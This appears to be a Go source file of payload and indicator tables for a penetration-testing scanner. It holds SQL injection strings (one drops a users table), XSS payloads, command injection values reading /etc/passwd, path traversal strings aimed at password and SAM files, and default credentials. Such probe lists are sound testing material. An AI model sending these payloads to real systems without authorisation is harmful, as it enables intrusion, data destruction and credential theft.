package pentest

// Probe payloads and indicator tables. Fixed at process start; the
// engine never mutates them.

var sqlInjectionPayloads = []string{
	"' OR '1'='1",
	"' OR 1=1--",
	"'; DROP TABLE users; --",
	"' UNION SELECT * FROM users--",
	"' OR 'x'='x",
	"admin'--",
	"admin' OR '1'='1'--",
	"' OR 1=1#",
	"' OR '1'='1' /*",
	"1' OR '1'='1' AND '1'='1",
}

var xssPayloads = []string{
	"<script>alert('XSS')</script>",
	"<img src=x onerror=alert('XSS')>",
	"<svg onload=alert('XSS')>",
	"javascript:alert('XSS')",
	"<iframe src=javascript:alert('XSS')></iframe>",
	"<body onload=alert('XSS')>",
	"<input onfocus=alert('XSS') autofocus>",
	"<select onfocus=alert('XSS') autofocus>",
	"<textarea onfocus=alert('XSS') autofocus>",
	"<keygen onfocus=alert('XSS') autofocus>",
}

var commandInjectionPayloads = []string{
	"; ls -la",
	"| whoami",
	"& dir",
	"` id `",
	"$(whoami)",
	"; cat /etc/passwd",
	"| type C:\\Windows\\System32\\drivers\\etc\\hosts",
	"& net user",
	"; ps aux",
	"| tasklist",
}

var sqlErrorIndicators = []string{
	"SQL syntax", "mysql_fetch", "ORA-", "Microsoft OLE DB",
	"ODBC SQL Server Driver", "PostgreSQL query failed",
}

var sqlSuccessIndicators = []string{
	"union select", "information_schema", "mysql.user", "pg_user",
}

var xssIndicators = []string{
	"<script", "javascript:", "onload=", "onerror=", "onclick=",
}

var scriptExecutionIndicators = []string{
	"alert(", "document.cookie", "window.location",
}

var commandIndicators = []string{
	";", "|", "&", "`", "$(", "&&", "||",
}

var maliciousFileNames = []string{
	"malware.exe", "script.js", "shell.php", "backdoor.bat",
}

var pathTraversalPayloads = []string{
	"../../../etc/passwd",
	"..\\..\\..\\windows\\system32\\config\\sam",
	"....//....//....//etc/passwd",
}

var weakPasswords = []string{
	"password", "123456", "admin", "root", "test", "guest",
}

var defaultCredentials = []string{
	"admin:admin", "root:root", "user:user", "guest:guest",
}

var sensitiveKeywords = []string{
	"password", "secret", "key", "token", "api_key", "private",
}

// maxInputLength is the threshold above which an input may slip past
// length validation elsewhere.
const maxInputLength = 1000
